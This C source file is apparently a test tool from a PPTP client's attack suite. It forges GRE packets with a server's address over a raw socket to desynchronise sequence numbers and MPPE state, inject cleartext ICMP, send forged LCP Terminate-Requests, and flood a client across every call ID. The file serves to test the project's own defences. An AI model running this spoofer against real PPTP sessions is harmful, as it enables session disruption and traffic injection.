/*
 * Copyright (c) 2026 The pptpc developers
 * SPDX-License-Identifier: ISC (see LICENSE)
 */
/*
 * gre-spoof: a blind attacker that can send with the server's address,
 * for the attack suite (tests/e2e/t_attack.sh).  It sends enhanced GRE
 * from the server's network namespace to the client, over a raw
 * IPPROTO_RAW socket (IP_HDRINCL).  It never reads anything: not pptpcd's
 * state, not the session's traffic.  What it knows is what anyone knows
 * about PPTP: a call ID is 16 bits, sequence numbers start at 1, MPPE
 * carries a 12-bit coherency count, LCP packets are not encrypted.
 *
 * It walks every call ID, 0 to 65535, and sends each the mode's few
 * packets before the next; after 65535 it starts over, its runs of
 * sequence numbers going on where they stopped.  It stops after -c
 * packets, at no more than -r a second, so a run is bounded both ways.
 * -i gives it one call ID: an attacker on the path reads the call IDs
 * in the control connection, but still not the sequence numbers.  -b
 * puts the runs at that sequence number instead of the mode's own (and
 * gives clear a run too), for trying one attack by hand.
 *
 * Modes, and the attack each stands for (issue 9):
 *   gre	runs of agreeing sequence numbers far from the genuine ones:
 *		at 0x4000, less than 2^15 ahead of a session that has
 *		received fewer than 16,384 packets, and at 0x80004000, half
 *		the circle away.  One packet less than 2^15 ahead made the
 *		receiver skip to it, three agreeing far ones made it follow
 *	mppe	PPP 0x00FD, stateless flags, random coherency counts and
 *		random ciphertext, in runs at 0x4000 and 0xc000: a count
 *		stepped to and committed without a check desynchronises the
 *		receiver
 *	clear	PPP 0x0021, an ICMP Echo-Request from the server's to the
 *		client's tunnel address, random sequence numbers: plaintext
 *		on an encrypted link
 *	lcp	LCP Terminate-Requests and Configure-Requests, random
 *		identifiers, in runs at 0x4000 and 0xc000
 *	flood	small packets, half ack-only with random acks, half data
 *		with random sequence numbers: packets to calls that do not
 *		exist, at a rate, to see what each costs the receiver
 *
 * Last line on stdout, for the test:
 *   gre-spoof: MODE: SENT sent, REFUSED refused, PER per call ID, SECS s
 */
#include <sys/types.h>
#include <sys/socket.h>

#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "buf.h"
#include "gre.h"
#include "ppp_defs.h"

#define IP_HDR_LEN	20
#define ICMP_HDR_LEN	8
#define ICMP_ECHO_REQUEST 8
#define ICMP_ID		0x5350	/* "SP" */
#define PKT_MAX		1600
#define CALL_IDS	65536
#define RUN_LEN		4	/* one more than GRE_RESYNC_PKTS today */
#define SEQ_YOUNG1	0x4000	/* < 2^15 ahead of seq 1 to 16,383 */
#define SEQ_YOUNG2	0xc000	/* < 2^15 ahead of seq 16,385 to 49,151 */
#define SEQ_HALF	0x80000000u
#define BASES_MAX	2
#define PACE_EVERY	64	/* packets between two looks at the clock */
#define MPPE_FL_A	0x80	/* flushed: every stateless packet */
#define MPPE_FL_D	0x10	/* encrypted */

enum mode {
	MODE_GRE,
	MODE_MPPE,
	MODE_CLEAR,
	MODE_LCP,
	MODE_FLOOD,
};

static const struct {
	const char	*name;
	unsigned int	 per_call;	/* packets to each call ID in a round */
} modes[] = {
	[MODE_GRE] = { "gre", 2 * RUN_LEN },
	[MODE_MPPE] = { "mppe", 2 * RUN_LEN },
	[MODE_CLEAR] = { "clear", 4 },
	[MODE_LCP] = { "lcp", 2 * RUN_LEN },
	[MODE_FLOOD] = { "flood", 4 },
};

struct spoof {
	enum mode	 mode;
	struct in_addr	 src;		/* the server, outer */
	struct in_addr	 dst;		/* the client, outer */
	struct in_addr	 in_src;	/* clear: inner source */
	struct in_addr	 in_dst;	/* clear: the client's tunnel address */
	uint32_t	 base[BASES_MAX]; /* each run's first sequence number */
	int		 one_base;	/* -b: a single run (two for gre) */
	unsigned int	 per_call;	/* packets to each call ID in a round */
	int		 one_call;	/* -i: only this call ID, else -1 */
	uint64_t	 count;
	uint64_t	 rate;
	int		 fd;
	uint8_t		 pkt[PKT_MAX];
};

static void __attribute__((noreturn))
usage(void)
{
	fprintf(stderr, "usage: gre-spoof -m gre|mppe|clear|lcp|flood "
	    "-s SRC -d DST [-c COUNT] [-r PPS]\n"
	    "                 [-i CALLID] [-b SEQ] [-t INNER-DST] "
	    "[-T INNER-SRC]\n");
	exit(2);
}

/* RFC 1071, over an even or odd number of bytes. */
static uint16_t
in_cksum(const uint8_t *p, size_t len)
{
	uint32_t sum = 0;
	size_t i;

	for (i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)(p[i] << 8 | p[i + 1]);
	if (len & 1)
		sum += (uint32_t)p[len - 1] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* An IPv4 header at p for total bytes of protocol proto, checksummed. */
static void
ipv4_hdr(uint8_t *p, size_t total, uint8_t proto, struct in_addr src,
    struct in_addr dst)
{
	struct wbuf w;
	uint16_t id;

	arc4random_buf(&id, sizeof(id));
	wbuf_init(&w, p, IP_HDR_LEN);
	wbuf_u8(&w, 0x45);		/* version 4, 5 words */
	wbuf_u8(&w, 0);
	wbuf_u16(&w, (uint16_t)total);
	wbuf_u16(&w, id);
	wbuf_u16(&w, 0);		/* no fragment */
	wbuf_u8(&w, 64);
	wbuf_u8(&w, proto);
	wbuf_u16(&w, 0);		/* checksum, below */
	wbuf_bytes(&w, &src.s_addr, 4);
	wbuf_bytes(&w, &dst.s_addr, 4);
	put_be16(p + 10, in_cksum(p, IP_HDR_LEN));
}

static void
random_bytes(struct wbuf *w, size_t min, size_t max)
{
	uint8_t *p;
	size_t n;

	n = min + arc4random_uniform((uint32_t)(max - min + 1));
	if ((p = wbuf_reserve(w, n)) != NULL)
		arc4random_buf(p, n);
}

/* The PPP header every mode uses: FF 03 and an uncompressed protocol. */
static void
ppp_hdr(struct wbuf *w, uint16_t proto)
{
	wbuf_u8(w, PPP_ALLSTATIONS);
	wbuf_u8(w, PPP_UI);
	wbuf_u16(w, proto);
}

/* An MPPE datagram: stateless flags, any count, ciphertext of noise. */
static void
mppe_frame(struct wbuf *w)
{
	uint16_t cc;

	cc = (uint16_t)arc4random_uniform(4096);
	ppp_hdr(w, PPP_COMP);
	wbuf_u8(w, (uint8_t)(MPPE_FL_A | MPPE_FL_D | cc >> 8));
	wbuf_u8(w, (uint8_t)(cc & 0xff));
	random_bytes(w, 40, 200);
}

/*
 * IPv4 in clear: an ICMP Echo-Request to the client's tunnel address.  If
 * the client took it, its kernel answers through the tunnel, and the
 * server's namespace counts an Echo-Reply that nobody asked for.
 */
static void
clear_frame(struct spoof *s, struct wbuf *w)
{
	static const char msg[] = "gre-spoof: cleartext inside the call";
	size_t icmp_len = ICMP_HDR_LEN + sizeof(msg);
	uint8_t *ip, *icmp;

	ppp_hdr(w, PPP_IP);
	if ((ip = wbuf_reserve(w, IP_HDR_LEN)) == NULL ||
	    (icmp = wbuf_reserve(w, icmp_len)) == NULL)
		return;
	ipv4_hdr(ip, IP_HDR_LEN + icmp_len, IPPROTO_ICMP, s->in_src,
	    s->in_dst);
	icmp[0] = ICMP_ECHO_REQUEST;
	icmp[1] = 0;
	put_be16(icmp + 2, 0);
	put_be16(icmp + 4, ICMP_ID);
	put_be16(icmp + 6, (uint16_t)arc4random());
	memcpy(icmp + ICMP_HDR_LEN, msg, sizeof(msg));
	put_be16(icmp + 2, in_cksum(icmp, icmp_len));
}

/* Terminate-Request (even i) or Configure-Request (odd i). */
static void
lcp_frame(struct wbuf *w, unsigned int i)
{
	uint32_t magic;
	uint8_t id;

	arc4random_buf(&id, sizeof(id));
	ppp_hdr(w, PPP_LCP);
	if (i % 2 == 0) {
		wbuf_u8(w, TERMREQ);
		wbuf_u8(w, id);
		wbuf_u16(w, 4);
		return;
	}
	magic = arc4random() | 1;
	wbuf_u8(w, CONFREQ);
	wbuf_u8(w, id);
	wbuf_u16(w, 4 + 4 + 6);
	wbuf_u8(w, 1);			/* MRU 1500 */
	wbuf_u8(w, 4);
	wbuf_u16(w, PPP_MRU_DEFAULT);
	wbuf_u8(w, 5);			/* magic number */
	wbuf_u8(w, 6);
	wbuf_u32(w, magic);
}

/*
 * The i-th packet of round for call_id, after the IPv4 header; returns
 * its length, 0 if it did not fit (never, for these sizes).
 */
static size_t
build(struct spoof *s, uint16_t call_id, unsigned int i, uint32_t round)
{
	uint8_t *g = s->pkt + IP_HDR_LEN;
	struct gre_hdr h;
	struct wbuf w;
	size_t hl, cap = sizeof(s->pkt) - IP_HDR_LEN;

	memset(&h, 0, sizeof(h));
	h.call_id = call_id;
	h.has_seq = 1;
	switch (s->mode) {
	case MODE_GRE:
	case MODE_MPPE:
	case MODE_LCP:
		/* Each round goes on where the last one stopped. */
		h.seq = s->base[i / RUN_LEN] + round * RUN_LEN + i % RUN_LEN;
		break;
	case MODE_CLEAR:
		/* -b: one run, to show what a frame in the window does. */
		h.seq = s->one_base ? s->base[0] + round * RUN_LEN + i :
		    arc4random();
		break;
	case MODE_FLOOD:
		if (i % 2 == 0) {
			h.has_seq = 0;
			h.has_ack = 1;
			h.ack = arc4random();
		} else
			h.seq = arc4random();
		break;
	}
	hl = gre_hdr_len(h.has_seq, h.has_ack);
	/* The payload first, behind room for the header; then the header. */
	wbuf_init(&w, g + hl, cap - hl);
	if (h.has_seq) {
		switch (s->mode) {
		case MODE_GRE:
		case MODE_MPPE:
			mppe_frame(&w);
			break;
		case MODE_CLEAR:
			clear_frame(s, &w);
			break;
		case MODE_LCP:
			lcp_frame(&w, i);
			break;
		case MODE_FLOOD:
			ppp_hdr(&w, PPP_COMP);
			random_bytes(&w, 4, 16);
			break;
		}
	}
	if (wbuf_failed(&w))
		return 0;
	h.payload_len = (uint16_t)wbuf_len(&w);
	if (gre_encode_hdr(g, hl, &h) != hl)
		return 0;
	ipv4_hdr(s->pkt, IP_HDR_LEN + hl + h.payload_len, IPPROTO_GRE, s->src,
	    s->dst);
	return IP_HDR_LEN + hl + h.payload_len;
}

static double
now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* Sleeps until sent packets are no more than rate allows since t0. */
static void
pace(uint64_t sent, uint64_t rate, double t0)
{
	struct timespec ts;
	double ahead;

	ahead = (double)sent / (double)rate - (now_s() - t0);
	if (ahead <= 0)
		return;
	ts.tv_sec = (time_t)ahead;
	ts.tv_nsec = (long)((ahead - (double)ts.tv_sec) * 1e9);
	nanosleep(&ts, NULL);
}

static int
open_raw(void)
{
	int fd, on = 1, sz = 1 << 20;

	if ((fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)) == -1)
		err(1, "raw socket");
	if (setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &on, sizeof(on)) == -1)
		err(1, "IP_HDRINCL");
	/* Best effort: a bigger queue only means fewer ENOBUFS. */
	(void)setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sz, sizeof(sz));
	return fd;
}

static void
run(struct spoof *s)
{
	struct sockaddr_in to;
	struct timespec pause = { 0, 1000000 };
	uint64_t sent = 0, refused = 0, n;
	unsigned int per = s->per_call, i = 0;
	uint32_t call = s->one_call >= 0 ? (uint32_t)s->one_call : 0;
	uint32_t round = 0;
	double t0;
	size_t len;

	memset(&to, 0, sizeof(to));
	to.sin_family = AF_INET;
	to.sin_addr = s->dst;
	t0 = now_s();
	for (n = 0; n < s->count; n++) {
		if ((len = build(s, (uint16_t)call, i, round)) == 0)
			errx(1, "packet does not fit");
		if (sendto(s->fd, s->pkt, len, 0, (struct sockaddr *)&to,
		    sizeof(to)) == -1) {
			if (errno != ENOBUFS && errno != EAGAIN &&
			    errno != EINTR)
				err(1, "sendto");
			/* A full queue: note it, let it drain, go on. */
			refused++;
			nanosleep(&pause, NULL);
		} else
			sent++;
		if (++i == per) {
			i = 0;
			if (s->one_call >= 0)
				round++;
			else if ((call = (call + 1) % CALL_IDS) == 0)
				round++;
		}
		if (n % PACE_EVERY == PACE_EVERY - 1)
			pace(n + 1, s->rate, t0);
	}
	printf("gre-spoof: %s: %llu sent, %llu refused, %u per call ID, "
	    "%.1f s\n", modes[s->mode].name, (unsigned long long)sent,
	    (unsigned long long)refused, per, now_s() - t0);
}

static uint64_t
number(const char *arg, uint64_t min, uint64_t max, const char *what)
{
	unsigned long long v;
	char *end;

	errno = 0;
	v = strtoull(arg, &end, 0);
	if (errno != 0 || end == arg || *end != '\0' || v < min || v > max)
		errx(2, "%s: \"%s\" is not a number from %llu to %llu", what,
		    arg, (unsigned long long)min, (unsigned long long)max);
	return v;
}

static void
address(const char *arg, struct in_addr *a, const char *what)
{
	if (inet_pton(AF_INET, arg, a) != 1)
		errx(2, "%s: \"%s\" is not an IPv4 address", what, arg);
}

int
main(int argc, char *argv[])
{
	struct spoof *s;
	int ch, have_src = 0, have_dst = 0, have_count = 0;
	size_t m;

	if ((s = calloc(1, sizeof(*s))) == NULL)
		err(1, NULL);
	s->mode = (enum mode)-1;
	s->one_call = -1;
	s->rate = 20000;
	s->one_base = 0;
	address("192.0.2.1", &s->in_src, "-T");
	address("192.0.2.10", &s->in_dst, "-t");
	while ((ch = getopt(argc, argv, "b:c:d:i:m:r:s:T:t:")) != -1) {
		switch (ch) {
		case 'b':
			s->base[0] = (uint32_t)number(optarg, 0, UINT32_MAX,
			    "-b");
			s->base[1] = s->base[0] + SEQ_HALF;
			s->one_base = 1;
			break;
		case 'c':
			s->count = number(optarg, 1, UINT64_MAX / 2, "-c");
			have_count = 1;
			break;
		case 'd':
			address(optarg, &s->dst, "-d");
			have_dst = 1;
			break;
		case 'i':
			s->one_call = (int)number(optarg, 0, CALL_IDS - 1,
			    "-i");
			break;
		case 'm':
			for (m = 0; m < sizeof(modes) / sizeof(modes[0]); m++)
				if (strcmp(optarg, modes[m].name) == 0)
					s->mode = (enum mode)m;
			if (s->mode == (enum mode)-1)
				errx(2, "-m: no mode \"%s\"", optarg);
			break;
		case 'r':
			s->rate = number(optarg, 1, 10000000, "-r");
			break;
		case 's':
			address(optarg, &s->src, "-s");
			have_src = 1;
			break;
		case 'T':
			address(optarg, &s->in_src, "-T");
			break;
		case 't':
			address(optarg, &s->in_dst, "-t");
			break;
		default:
			usage();
		}
	}
	if (argc != optind || s->mode == (enum mode)-1 || !have_src ||
	    !have_dst)
		usage();
	s->per_call = modes[s->mode].per_call;
	if (!s->one_base) {
		s->base[0] = SEQ_YOUNG1;
		s->base[1] = s->mode == MODE_GRE ? SEQ_YOUNG1 + SEQ_HALF :
		    SEQ_YOUNG2;
	}
	/* -b: one run at that base (and one half the circle away for gre). */
	if (s->one_base && s->mode != MODE_FLOOD)
		s->per_call = s->mode == MODE_GRE ? 2 * RUN_LEN : RUN_LEN;
	/* By default one round: every call ID gets the mode's packets once. */
	if (!have_count)
		s->count = (uint64_t)s->per_call *
		    (s->one_call >= 0 ? 1 : CALL_IDS);
	s->fd = open_raw();
	setvbuf(stdout, NULL, _IOLBF, 0);
	run(s);
	close(s->fd);
	free(s);
	return 0;
}
